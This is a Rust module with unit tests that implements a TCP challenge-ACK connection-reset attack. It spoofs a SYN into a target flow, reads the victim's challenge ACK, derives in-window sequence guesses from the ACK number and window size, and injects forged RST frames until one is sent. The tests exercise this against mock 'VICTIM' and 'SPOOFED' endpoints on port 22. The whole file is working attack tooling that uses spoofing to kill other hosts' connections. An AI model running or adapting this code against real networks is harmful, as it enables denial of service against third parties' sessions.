//! The interception controller
//!
//! One [`Interceptor`] runs exactly one exchange: spoof a SYN into the
//! configured flow, wait for the challenge ACK it provokes, then reset the
//! flow using the ACK's acknowledgment number and window to guess the
//! in-window sequence.

use challack_capture::{CaptureHandle, CaptureOpener, FrameStream};
use challack_core::{Error, FourTuple, Result};
use challack_packet::{build_rst, build_syn, decode, sequence_guess, DecodedFrame, INITIAL_SEQUENCE};
use std::fmt;
use std::time::Duration;
use tokio::time::sleep;
use tracing::{debug, error, info, info_span, warn, Instrument};
use uuid::Uuid;

use crate::config::InterceptConfig;

/// Outcome of a successful interception
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct InterceptReport {
    /// Flow the RST was addressed to
    pub tuple: FourTuple,
    /// Sequence number of the RST that was written
    pub sequence: u32,
    /// Zero-based attempt index that succeeded
    pub attempt: u32,
    /// Frames read before the challenge ACK, the ACK included
    pub frames_seen: u64,
}

impl fmt::Display for InterceptReport {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{}RST seq {} (attempt {}, {} frames seen)",
            self.tuple,
            self.sequence,
            self.attempt + 1,
            self.frames_seen
        )
    }
}

/// Drives one challenge-ACK interception over a capture device
pub struct Interceptor<O: CaptureOpener> {
    /// Unique identifier for this interception
    id: Uuid,
    config: InterceptConfig,
    opener: O,
}

impl<O: CaptureOpener> Interceptor<O> {
    pub fn new(config: InterceptConfig, opener: O) -> Self {
        Self {
            id: Uuid::now_v7(),
            config,
            opener,
        }
    }

    pub fn id(&self) -> Uuid {
        self.id
    }

    pub fn config(&self) -> &InterceptConfig {
        &self.config
    }

    /// Run the interception to completion.
    ///
    /// Consumes the interceptor. Once the device is open, its handle is
    /// closed exactly once on every exit path.
    pub async fn intercept(self) -> Result<InterceptReport> {
        let span = info_span!("intercept", id = %self.id, device = %self.config.device());
        self.run().instrument(span).await
    }

    async fn run(self) -> Result<InterceptReport> {
        if let Some(delay) = self.config.delay() {
            info!("Delaying {:?} before opening the device", delay);
            sleep(delay).await;
        }

        let mut handle = self.opener.open(self.config.device(), self.config.filter())?;
        info!(filter = %self.config.filter(), "Filter installed");

        let result = self.exchange(&mut handle).await;
        // Closing joins the capture thread; keep it off the runtime workers
        if let Err(e) = tokio::task::spawn_blocking(move || handle.close()).await {
            error!(error = %e, "Closing the capture device failed");
        }

        match &result {
            Ok(report) => info!(sequence = report.sequence, "Interception completed"),
            Err(e) => debug!(error = %e, "Interception failed"),
        }
        result
    }

    async fn exchange(&self, handle: &mut O::Handle) -> Result<InterceptReport> {
        let tuple = self.config.tuple();
        let mut frames = handle.frames()?;

        let syn = build_syn(tuple, INITIAL_SEQUENCE).map_err(|e| Error::SynSendFailed(e.to_string()))?;
        handle
            .send_datagram(&syn)
            .map_err(|e| Error::SynSendFailed(e.to_string()))?;
        info!("[send] {}SYN, seq {}", tuple, INITIAL_SEQUENCE);

        let (challenge, frames_seen) = self.await_challenge_ack(&mut frames).await?;
        self.reset(handle, &challenge, frames_seen)
    }

    /// Wait for the first TCP frame with none of SYN, FIN or RST set.
    async fn await_challenge_ack(&self, frames: &mut FrameStream) -> Result<(DecodedFrame, u64)> {
        let timeout = self.config.timeout();
        let mut deadline = timeout.map(|t| Box::pin(sleep(t)));
        let mut frames_seen = 0u64;

        loop {
            let next = match deadline.as_mut() {
                Some(deadline) => tokio::select! {
                    frame = frames.recv() => frame,
                    _ = deadline.as_mut() => {
                        return Err(Error::DeadlineExceeded(timeout.unwrap_or(Duration::ZERO)));
                    }
                },
                None => frames.recv().await,
            };

            let frame = next.ok_or_else(|| Error::Capture("frame stream ended".to_string()))?;
            frames_seen += 1;

            let decoded = decode(frame.data())?;
            let flags = decoded.transport.flags;
            if flags.is_control() {
                debug!("{}skipping {}", decoded.tuple(), flags);
                continue;
            }

            info!(
                ack = decoded.transport.acknowledgment_number,
                window = decoded.transport.window_size,
                "[recv] {}challenge ACK",
                decoded.tuple()
            );
            return Ok((decoded, frames_seen));
        }
    }

    /// Write RSTs at successive window offsets until one write succeeds.
    fn reset(
        &self,
        handle: &mut O::Handle,
        challenge: &DecodedFrame,
        frames_seen: u64,
    ) -> Result<InterceptReport> {
        let ack = challenge.transport.acknowledgment_number;
        let window = challenge.transport.window_size;
        let tuple = challenge.tuple().reversed();
        let retry = self.config.retry();

        for attempt in 0..retry {
            let sequence = sequence_guess(ack, window, attempt);
            let frame = build_rst(
                &tuple,
                challenge.link.destination,
                challenge.link.source,
                sequence,
            )?;

            info!(attempt = attempt + 1, retry, "[send] {}RST, seq {}", tuple, sequence);
            match handle.send_frame(&frame) {
                Ok(()) => {
                    return Ok(InterceptReport {
                        tuple,
                        sequence,
                        attempt,
                        frames_seen,
                    });
                }
                Err(e) => warn!(
                    attempt = attempt + 1,
                    retry,
                    error = %e,
                    "{}RST seq {} not sent",
                    tuple,
                    sequence
                ),
            }
        }

        Err(Error::RstExhausted { attempts: retry })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use challack_capture::CaptureFilter;
    use challack_core::{MacAddr, Packet};
    use challack_packet::{PacketBuilder, TcpFlags};
    use std::net::Ipv4Addr;
    use std::sync::atomic::{AtomicUsize, Ordering};
    use std::sync::{Arc, Mutex};
    use std::thread::{self, ThreadId};
    use tokio::sync::mpsc::{self, UnboundedSender};

    const SPOOFED: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 5);
    const VICTIM: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 9);
    const VICTIM_HW: MacAddr = MacAddr([0x02, 0, 0, 0, 0, 0x09]);
    const GATEWAY_HW: MacAddr = MacAddr([0x02, 0, 0, 0, 0, 0x01]);

    /// Shared view into what the in-memory handle saw
    #[derive(Clone, Default)]
    struct Recorder {
        opens: Arc<AtomicUsize>,
        closes: Arc<AtomicUsize>,
        close_thread: Arc<Mutex<Option<ThreadId>>>,
        datagrams: Arc<Mutex<Vec<Vec<u8>>>>,
        injected: Arc<Mutex<Vec<Vec<u8>>>>,
    }

    impl Recorder {
        fn closes(&self) -> usize {
            self.closes.load(Ordering::SeqCst)
        }

        fn injected(&self) -> Vec<Vec<u8>> {
            self.injected.lock().unwrap().clone()
        }
    }

    #[derive(Default)]
    struct MockOpener {
        recorder: Recorder,
        frames: Vec<Vec<u8>>,
        /// Keep the stream open after the scripted frames
        keep_open: bool,
        fail_open: bool,
        fail_syn: bool,
        /// Number of leading frame injections that fail
        failing_injections: usize,
    }

    struct MockHandle {
        recorder: Recorder,
        frames: Option<FrameStream>,
        _feed: Option<UnboundedSender<Packet>>,
        fail_syn: bool,
        failing_injections: usize,
    }

    impl CaptureOpener for MockOpener {
        type Handle = MockHandle;

        fn open(&self, device: &str, _filter: &CaptureFilter) -> Result<MockHandle> {
            if self.fail_open {
                return Err(Error::DeviceNotFound(device.to_string()));
            }
            self.recorder.opens.fetch_add(1, Ordering::SeqCst);

            let (tx, rx) = mpsc::unbounded_channel();
            for frame in &self.frames {
                tx.send(Packet::new(device.to_string(), frame.clone())).unwrap();
            }

            Ok(MockHandle {
                recorder: self.recorder.clone(),
                frames: Some(rx),
                _feed: self.keep_open.then_some(tx),
                fail_syn: self.fail_syn,
                failing_injections: self.failing_injections,
            })
        }
    }

    impl CaptureHandle for MockHandle {
        fn frames(&mut self) -> Result<FrameStream> {
            self.frames
                .take()
                .ok_or_else(|| Error::Capture("frame stream already taken".to_string()))
        }

        fn send_datagram(&mut self, datagram: &[u8]) -> Result<()> {
            if self.fail_syn {
                return Err(Error::Capture("operation not permitted".to_string()));
            }
            self.recorder.datagrams.lock().unwrap().push(datagram.to_vec());
            Ok(())
        }

        fn send_frame(&mut self, frame: &[u8]) -> Result<()> {
            if self.failing_injections > 0 {
                self.failing_injections -= 1;
                return Err(Error::Capture("no buffer space available".to_string()));
            }
            self.recorder.injected.lock().unwrap().push(frame.to_vec());
            Ok(())
        }

        fn close(self) {
            self.recorder.closes.fetch_add(1, Ordering::SeqCst);
            *self.recorder.close_thread.lock().unwrap() = Some(thread::current().id());
        }
    }

    fn config() -> InterceptConfig {
        InterceptConfig::builder("eth0")
            .src_host(SPOOFED)
            .dst_host(VICTIM)
            .src_port(51000)
            .dst_port(22)
            .build()
            .unwrap()
    }

    /// A frame from the victim back towards the spoofed endpoint
    fn victim_frame(flags: TcpFlags, ack: u32, window: u16) -> Vec<u8> {
        PacketBuilder::new()
            .ethernet(VICTIM_HW, GATEWAY_HW)
            .ipv4(VICTIM, SPOOFED)
            .tcp(22, 51000, 424242, ack, flags)
            .window(window)
            .build()
            .unwrap()
    }

    fn challenge_ack(ack: u32, window: u16) -> Vec<u8> {
        victim_frame(TcpFlags::ACK, ack, window)
    }

    /// Well-formed Ethernet and IPv4 with no TCP header behind them
    fn not_tcp_frame() -> Vec<u8> {
        PacketBuilder::new()
            .ethernet(VICTIM_HW, GATEWAY_HW)
            .ipv4(VICTIM, SPOOFED)
            .payload(vec![1, 2, 3, 4])
            .build()
            .unwrap()
    }

    fn rst_sequences(recorder: &Recorder) -> Vec<u32> {
        recorder
            .injected()
            .iter()
            .map(|frame| decode(frame).unwrap().transport.sequence_number)
            .collect()
    }

    #[tokio::test]
    async fn test_intercept_resets_flow() {
        let opener = MockOpener {
            frames: vec![challenge_ack(1000, 500), challenge_ack(9999, 1)],
            ..Default::default()
        };
        let recorder = opener.recorder.clone();

        let report = Interceptor::new(config(), opener).intercept().await.unwrap();

        assert_eq!(report.sequence, 1000);
        assert_eq!(report.attempt, 0);
        assert_eq!(report.frames_seen, 1);
        assert_eq!(report.tuple, FourTuple::new(SPOOFED, VICTIM, 51000, 22));
        assert_eq!(recorder.closes(), 1);

        // The SYN carries the fixed initial sequence into the configured flow
        let datagrams = recorder.datagrams.lock().unwrap().clone();
        assert_eq!(datagrams.len(), 1);
        let ip = challack_packet::Ipv4Packet::from_bytes(&datagrams[0]).unwrap();
        let syn = challack_packet::TcpSegment::from_bytes(&ip.payload).unwrap();
        assert_eq!((ip.source, ip.destination), (SPOOFED, VICTIM));
        assert_eq!(syn.sequence_number, INITIAL_SEQUENCE);
        assert_eq!(syn.flags, TcpFlags::SYN);

        let injected = recorder.injected();
        assert_eq!(injected.len(), 1);
        let rst = decode(&injected[0]).unwrap();
        assert_eq!(rst.transport.flags, TcpFlags::RST);
        assert_eq!(rst.transport.sequence_number, 1000);
        assert_eq!(rst.link.source, GATEWAY_HW);
        assert_eq!(rst.link.destination, VICTIM_HW);
        assert_eq!(rst.tuple(), FourTuple::new(SPOOFED, VICTIM, 51000, 22));
    }

    #[tokio::test]
    async fn test_control_frames_skipped() {
        let opener = MockOpener {
            frames: vec![
                victim_frame(TcpFlags::SYN, 0, 0),
                victim_frame(TcpFlags::FIN_ACK, 7, 100),
                victim_frame(TcpFlags::RST, 0, 0),
                challenge_ack(55555, 64240),
            ],
            ..Default::default()
        };
        let recorder = opener.recorder.clone();

        let report = Interceptor::new(config(), opener).intercept().await.unwrap();

        assert_eq!(report.frames_seen, 4);
        assert_eq!(rst_sequences(&recorder), vec![55555]);
    }

    #[tokio::test]
    async fn test_retry_after_failed_write() {
        let opener = MockOpener {
            frames: vec![challenge_ack(1000, 500)],
            failing_injections: 1,
            ..Default::default()
        };
        let recorder = opener.recorder.clone();

        let report = Interceptor::new(config(), opener).intercept().await.unwrap();

        assert_eq!(report.sequence, 1500);
        assert_eq!(report.attempt, 1);
        assert_eq!(rst_sequences(&recorder), vec![1500]);
        assert_eq!(recorder.closes(), 1);
    }

    #[tokio::test]
    async fn test_all_writes_fail() {
        let opener = MockOpener {
            frames: vec![challenge_ack(1000, 500)],
            failing_injections: usize::MAX,
            ..Default::default()
        };
        let recorder = opener.recorder.clone();

        let err = Interceptor::new(config(), opener).intercept().await.unwrap_err();

        assert!(matches!(err, Error::RstExhausted { attempts: 3 }));
        assert!(recorder.injected().is_empty());
        assert_eq!(recorder.closes(), 1);
    }

    #[tokio::test]
    async fn test_sequence_wraps() {
        let opener = MockOpener {
            frames: vec![challenge_ack(u32::MAX - 9, 20)],
            failing_injections: 1,
            ..Default::default()
        };

        let report = Interceptor::new(config(), opener).intercept().await.unwrap();
        assert_eq!(report.sequence, 10);
    }

    #[tokio::test(start_paused = true)]
    async fn test_deadline_exceeded() {
        let config = InterceptConfig::builder("eth0")
            .src_host(SPOOFED)
            .dst_host(VICTIM)
            .src_port(51000)
            .dst_port(22)
            .timeout(Duration::from_millis(50))
            .build()
            .unwrap();
        let opener = MockOpener {
            keep_open: true,
            ..Default::default()
        };
        let recorder = opener.recorder.clone();

        let err = Interceptor::new(config, opener).intercept().await.unwrap_err();

        assert!(matches!(err, Error::DeadlineExceeded(d) if d == Duration::from_millis(50)));
        assert!(recorder.injected().is_empty());
        assert_eq!(recorder.closes(), 1);
    }

    #[tokio::test]
    async fn test_malformed_frame_aborts() {
        let opener = MockOpener {
            frames: vec![not_tcp_frame(), challenge_ack(1000, 500)],
            ..Default::default()
        };
        let recorder = opener.recorder.clone();

        let err = Interceptor::new(config(), opener).intercept().await.unwrap_err();

        assert!(matches!(err, Error::PacketMalformed(_)));
        assert!(recorder.injected().is_empty());
        assert_eq!(recorder.closes(), 1);
    }

    #[tokio::test]
    async fn test_close_runs_off_async_task() {
        let opener = MockOpener {
            frames: vec![challenge_ack(1000, 500)],
            ..Default::default()
        };
        let recorder = opener.recorder.clone();

        Interceptor::new(config(), opener).intercept().await.unwrap();

        assert_eq!(recorder.closes(), 1);
        let closed_on = recorder.close_thread.lock().unwrap().unwrap();
        assert_ne!(closed_on, thread::current().id());
    }

    #[tokio::test]
    async fn test_stream_end_is_capture_error() {
        let opener = MockOpener {
            frames: vec![victim_frame(TcpFlags::RST, 0, 0)],
            ..Default::default()
        };
        let recorder = opener.recorder.clone();

        let err = Interceptor::new(config(), opener).intercept().await.unwrap_err();

        assert!(matches!(err, Error::Capture(_)));
        assert_eq!(recorder.closes(), 1);
    }

    #[tokio::test]
    async fn test_syn_write_failure() {
        let opener = MockOpener {
            frames: vec![challenge_ack(1000, 500)],
            fail_syn: true,
            ..Default::default()
        };
        let recorder = opener.recorder.clone();

        let err = Interceptor::new(config(), opener).intercept().await.unwrap_err();

        assert!(matches!(err, Error::SynSendFailed(_)));
        assert!(recorder.injected().is_empty());
        assert_eq!(recorder.closes(), 1);
    }

    #[tokio::test]
    async fn test_syn_build_failure() {
        // Only a port selected: the SYN has no addresses to carry
        let config = InterceptConfig::builder("eth0").dst_port(22).build().unwrap();
        let opener = MockOpener::default();
        let recorder = opener.recorder.clone();

        let err = Interceptor::new(config, opener).intercept().await.unwrap_err();

        assert!(matches!(err, Error::SynSendFailed(_)));
        assert_eq!(recorder.closes(), 1);
    }

    #[tokio::test]
    async fn test_open_failure_has_nothing_to_close() {
        let opener = MockOpener {
            fail_open: true,
            ..Default::default()
        };
        let recorder = opener.recorder.clone();

        let err = Interceptor::new(config(), opener).intercept().await.unwrap_err();

        assert!(matches!(err, Error::DeviceNotFound(_)));
        assert_eq!(recorder.opens.load(Ordering::SeqCst), 0);
        assert_eq!(recorder.closes(), 0);
    }

    #[tokio::test(start_paused = true)]
    async fn test_delay_before_open() {
        let config = InterceptConfig::builder("eth0")
            .src_host(SPOOFED)
            .dst_host(VICTIM)
            .src_port(51000)
            .dst_port(22)
            .delay(Duration::from_secs(5))
            .build()
            .unwrap();
        let opener = MockOpener {
            frames: vec![challenge_ack(1000, 500)],
            ..Default::default()
        };

        let started = tokio::time::Instant::now();
        Interceptor::new(config, opener).intercept().await.unwrap();
        assert!(started.elapsed() >= Duration::from_secs(5));
    }

    #[test]
    fn test_report_display() {
        let report = InterceptReport {
            tuple: FourTuple::new(SPOOFED, VICTIM, 51000, 22),
            sequence: 1500,
            attempt: 1,
            frames_seen: 3,
        };
        assert_eq!(
            report.to_string(),
            "IP 10.0.0.5.51000 > 10.0.0.9.22: RST seq 1500 (attempt 2, 3 frames seen)"
        );
    }

    #[test]
    fn test_interceptor_ids_unique() {
        let a = Interceptor::new(config(), MockOpener::default());
        let b = Interceptor::new(config(), MockOpener::default());
        assert_ne!(a.id(), b.id());
    }
}
